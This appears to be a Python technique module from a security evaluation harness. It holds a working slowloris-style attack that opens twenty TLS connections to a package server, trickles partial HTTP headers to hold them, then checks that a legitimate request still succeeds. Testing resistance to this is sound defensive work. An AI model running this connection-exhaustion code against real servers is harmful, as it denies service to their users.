"""A head that comes by the byte holds a place for as long as it comes."""

import contextlib
import socket
import time
from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Send heads a byte at a time on many connections, and go on with a legitimate request.",
    claim="E3",
    defences=("limits",),
    stopped_by=("guest:",),
    alone=True,
    seconds=60.0,
)


def attack(case: Case, what: Any) -> None:
    address, held = case.address(case.ground.packages), []
    for _ in range(20):
        sock = inside.trusting().wrap_socket(socket.create_connection((address, 443), 5), server_hostname=case.ground.packages)
        sock.sendall(b"GET /simple/ HT")
        held.append(sock)
    for _ in range(8):
        for sock in held:
            with contextlib.suppress(OSError):
                sock.sendall(b"x")
        time.sleep(0.3)
    case.did(f"holds {len(held)} heads")
    got = case.http(case.ground.packages, f"/simple/{case.token}/", seconds=15)
    if not got.startswith(b"HTTP/1.1 200"):
        raise RuntimeError("a legitimate request waits")
    case.refused("legitimate requests go on")
